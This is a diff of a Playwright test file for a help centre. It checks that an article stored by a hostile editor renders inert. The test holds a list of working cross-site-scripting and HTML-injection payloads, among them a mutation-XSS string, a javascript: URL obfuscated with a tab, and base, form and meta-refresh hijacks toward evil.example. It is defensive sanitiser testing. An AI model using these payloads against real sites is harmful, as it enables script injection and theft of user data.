@@ -76,7 +76,8 @@ test('[HC-06] [HC-09] [HC-05] [G-50] the way through the help centre by keys alo
   const actions = ['view', 'copy_link', 'feedback_no', 'contact'].map((action) => ({ action }));
   expect(counted).toEqual(expect.arrayContaining(actions));
 
-  await page.keyboard.press('Alt+ArrowLeft');
+  // The browser's own keys for it do not reach a page that is driven.
+  await page.goBack();
   await expect(title(page, 'How can we help?')).toBeVisible();
 });
 
@@ -150,60 +151,61 @@ test('[HC-11] [ERR-05] an article that is gone is told, and the screen stays', a
   await expect(title(page, 'There is no such page')).toBeVisible();
 });
 
-test.describe('a hostile editor', () => {
-  test.use({
-    expectedConsole: [/Content Security Policy directive \W*(?:style-src|base-uri)/, /base-uri 'none'/],
+test('[HC-10] what a hostile editor has stored does nothing, and can be read', async ({
+  page,
+  sandbox,
+  expectedConsole,
+}) => {
+  // Parsing alone meets the policy of styles and bases.
+  expectedConsole.push(/style-src|base-uri/);
+  const dialogs: string[] = [];
+  page.on('dialog', (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
   });
-
-  test('[HC-10] what one has stored does nothing, and can be read', async ({ page, sandbox }) => {
-    const dialogs: string[] = [];
-    page.on('dialog', (dialog) => {
-      dialogs.push(dialog.message());
-      void dialog.dismiss();
-    });
-    const foreign: string[] = [];
-    page.on('request', (request) => {
-      if (request.url().includes('evil.example')) foreign.push(request.url());
-    });
-    await storeArticle(
-      page,
-      [
-        '<h2>First</h2>',
-        '<script>alert(1)</script><p onclick="alert(1)">Handler</p>',
-        '<img src=x onerror=alert(1)><p>Picture</p>',
-        '<a href="jav&#9;ascript:alert(1)">Address</a>',
-        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>Drawing</p>',
-        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mathematics</p>',
-        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/f"></iframe><p>Frame</p>',
-        '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Refresh</p>',
-        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>Base</p>',
-        '<style>body{display:none}p{background:url(https://evil.example/p)}</style><p>Style</p>',
-        '<form action="https://evil.example"><p><button formaction="javascript:alert(1)">Form</button></p></form>',
-        '<img alt="" srcset="https://evil.example/i 2x"><p>Sources</p>',
-        '<a href="https://evil.example/" target="_blank" rel="opener">Opener</a>',
-        '<p id="root" name="cookie">Names</p>',
-        '<p>Unclosed</p><img src="https://evil.example/?',
-      ].join(''),
-    );
-    await page.goto('/help/2');
-    const article = page.getByRole('article');
-    await expect(article.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
-    for (const words of 'Handler Picture Address Drawing Mathematics Frame Refresh Base Style Form Sources Opener Names Unclosed'.split(
-      ' ',
-    )) {
-      await expect(article.getByText(words, { exact: true })).toBeVisible();
-    }
-    await article.getByText('Handler').click();
-    await article.getByText('Address').click();
-    await article.getByText('Form').click();
-    await expect(article.getByRole('link', { name: 'Opener' })).toHaveAttribute('rel', 'noopener noreferrer');
-    await expect(page).toHaveURL('/help/2');
-    expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
-    // Parsing alone already meets the policy of styles and bases; nothing ever asks for anything else.
-    expect(JSON.stringify(await sandbox.policyReports())).not.toMatch(
-      /script-src|img-src|frame-src|form-action/,
-    );
+  const foreign: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) foreign.push(request.url());
   });
+  await storeArticle(
+    page,
+    [
+      '<h2>First</h2>',
+      '<script>alert(1)</script><p onclick="alert(1)">Handler</p>',
+      '<img src=x onerror=alert(1)><p>Picture</p>',
+      '<a href="jav&#9;ascript:alert(1)">Address</a>',
+      '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>Drawing</p>',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mathematics</p>',
+      '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/f"></iframe><p>Frame</p>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Refresh</p>',
+      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>Base</p>',
+      '<style>body{display:none}p{background:url(https://evil.example/p)}</style><p>Style</p>',
+      '<form action="https://evil.example"><p><button formaction="javascript:alert(1)">Form</button></p></form>',
+      '<img alt="" srcset="https://evil.example/i 2x"><p>Sources</p>',
+      '<a href="https://evil.example/" target="_blank" rel="opener">Opener</a>',
+      '<p id="root" name="cookie">Names</p>',
+      '<p>Unclosed</p><img src="https://evil.example/?',
+    ].join(''),
+  );
+  await page.goto('/help/2');
+  const article = page.getByRole('article');
+  await expect(article.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
+  for (const words of 'Handler Picture Address Drawing Mathematics Frame Refresh Base Style Form Sources Opener Names Unclosed'.split(
+    ' ',
+  )) {
+    await expect(article.getByText(words, { exact: true })).toBeVisible();
+  }
+  await article.getByText('Handler').click();
+  await article.getByText('Address').click();
+  await article.getByText('Form').click();
+  await expect(article.getByRole('link', { name: 'Opener' })).toHaveAttribute('rel', 'noopener noreferrer');
+  await expect(page).toHaveURL('/help/2');
+  expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
+  // Parsing alone already meets the policy of styles and bases; nothing ever asks for anything else.
+  const directives = JSON.stringify(await sandbox.policyReports()).matchAll(
+    /"effective-directive":"([^"]+)"/g,
+  );
+  expect(new Set([...directives].map(([, name]) => name))).toEqual(new Set(['base-uri', 'style-src-elem']));
 });
 
 test('[HC-10] a video is fetched when it is played, and no earlier', async ({ page, sandbox }) => {
